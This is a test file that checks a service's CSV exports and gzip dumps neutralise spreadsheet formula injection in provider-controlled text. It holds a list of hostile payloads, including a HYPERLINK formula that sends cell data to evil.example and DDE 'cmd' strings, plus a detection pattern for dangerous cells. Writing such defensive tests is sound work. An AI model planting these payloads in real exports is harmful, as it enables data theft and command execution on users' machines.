/**
 * Issue 19 finding 7: provider-controlled text in public CSVs and dumps never starts a spreadsheet
 * formula. A real Postgres seeded with measurements; some carry hostile answer text and error
 * messages, a provider has a hostile name. Read over real HTTP: the measurements CSV, the
 * providers CSV, the endpoints CSV and the weekly dump (gzip CSV); parsed with csv-parse (RFC 4180).
 * Every text cell that begins with = + - @ tab or CR (also after spaces, also full-width) carries
 * the OWASP `'` prefix; numbers (negative ones too) stay numbers.
 */
import { gunzipSync } from 'node:zlib';
import { parse } from 'csv-parse/sync';
import { and, eq, gte, lt } from 'drizzle-orm';
import { afterAll, beforeAll, describe, expect, it, vi } from 'vitest';
import { endpoints, measurements, providers } from '@/db/schema';
import type { TestDatabase } from '@/db/test-support/test-database';
import { neutraliseFormula } from '@/lib/api/csv';
import { lastCompleteWeek, writeDump } from '@/workers/tasks/write-dump';
import { serveApi } from './test-support/serve-api';
import { seedApiData } from './test-support/seed-api-data';

vi.mock('next/server', async (importOriginal) => ({ ...(await importOriginal<typeof import('next/server')>()), connection: async () => {} }));

const NOW = Date.now();
const HOSTILE = [
  '=HYPERLINK("http://evil.example/?d="&A1,"click")',
  "+cmd|' /C calc'!A0",
  "-2+3+cmd|' /C calc'!A0",
  "@SUM(1+1)*cmd|' /C calc'!A0",
  '\t=1+1',
  '\r=1+1',
  '  =1+1',
  '＝1+1',
  '＠SUM(A1)',
];
let t: TestDatabase;
let server: { baseUrl: string; close: () => Promise<void> };
let endpointId: number;

/** Every cell of a CSV text, by column. */
function cells(csv: string): Array<Record<string, string>> {
  return parse(csv, { columns: true, relax_column_count: false, bom: false }) as Array<Record<string, string>>;
}
/** A cell that a spreadsheet would evaluate. */
const dangerous = (cell: string) => /^[ \u00a0]*[=+\-@\t\r\uff1d\uff0b\uff0d\uff20]/.test(cell) && !/^-?\d+(\.\d+)?(e[+-]?\d+)?$/i.test(cell);

beforeAll(async () => {
  const seeded = await seedApiData({ now: NOW, days: 16 });
  t = seeded.t;
  const week = lastCompleteWeek(new Date(NOW));
  const [ep] = await t.db
    .select({ id: endpoints.id, providerId: endpoints.providerId })
    .from(endpoints)
    .where(eq(endpoints.id, seeded.endpointIds[0]!))
    .limit(1);
  endpointId = ep!.id;
  // Hostile text where providers control it: answers, error messages, their name.
  const rows = await t.db
    .select({ id: measurements.id })
    .from(measurements)
    .where(and(eq(measurements.endpointId, endpointId), gte(measurements.measuredAt, week.fromAt), lt(measurements.measuredAt, week.untilAt)))
    .limit(HOSTILE.length * 2);
  for (let i = 0; i < rows.length; i++) {
    const text = HOSTILE[i % HOSTILE.length]!;
    await t.db
      .update(measurements)
      .set(i % 2 ? { errorMessage: text } : { answerText: text })
      .where(eq(measurements.id, rows[i]!.id));
  }
  await t.db.update(providers).set({ name: '=HYPERLINK("http://evil.example","Groq")' }).where(eq(providers.id, ep!.providerId));
  await writeDump(t.db, week);
  server = await serveApi();
}, 180_000);

afterAll(async () => {
  await server?.close();
  await t?.drop();
});

describe('formula injection in CSV answers and dumps', () => {
  it('neutralises exactly the OWASP starts (and their space/full-width variants), never numbers', () => {
    for (const h of HOSTILE) expect(neutraliseFormula(h)).toBe(`'${h}`);
    for (const ok of ['Groq', 'a=b', '1+1', '', ' plain', "'already"]) expect(neutraliseFormula(ok)).toBe(ok);
  });

  it('the measurements CSV, endpoints and providers CSVs and the weekly dump hold no cell a spreadsheet would evaluate', { timeout: 60_000 }, async () => {
    const week = lastCompleteWeek(new Date(NOW));
    const list = (await (await fetch(`${server.baseUrl}/api/v1/dumps`)).json()) as { items: Array<{ url: string }> };
    const dump = gunzipSync(Buffer.from(await (await fetch(`${server.baseUrl}${list.items[0]!.url}`)).arrayBuffer())).toString('utf8');
    const answers: Record<string, string> = {
      measurements: await (
        await fetch(
          `${server.baseUrl}/api/v1/endpoints/${endpointId}/measurements.csv?limit=5000&since=${week.fromAt.toISOString()}&until=${week.untilAt.toISOString()}`,
        )
      ).text(),
      endpoints: await (await fetch(`${server.baseUrl}/api/v1/endpoints.csv`)).text(),
      providers: await (await fetch(`${server.baseUrl}/api/v1/providers.csv`)).text(),
      dump,
    };
    for (const [name, csv] of Object.entries(answers)) {
      const rows = cells(csv);
      expect(rows.length, `${name}: ${csv.slice(0, 300)}`).toBeGreaterThan(0);
      const bad = rows.flatMap((r) => Object.entries(r).filter(([, v]) => dangerous(v)));
      expect(bad, name).toEqual([]);
    }
    // the hostile texts are there, prefixed, and recoverable
    for (const csv of [answers.measurements!, dump]) {
      const texts = cells(csv).flatMap((r) => [r.answerText ?? '', r.errorMessage ?? '']);
      for (const h of HOSTILE) expect(texts).toContain(`'${h}`);
    }
    expect(cells(answers.providers!).some((r) => Object.values(r).includes('\'=HYPERLINK("http://evil.example","Groq")'))).toBe(true);
  });
});
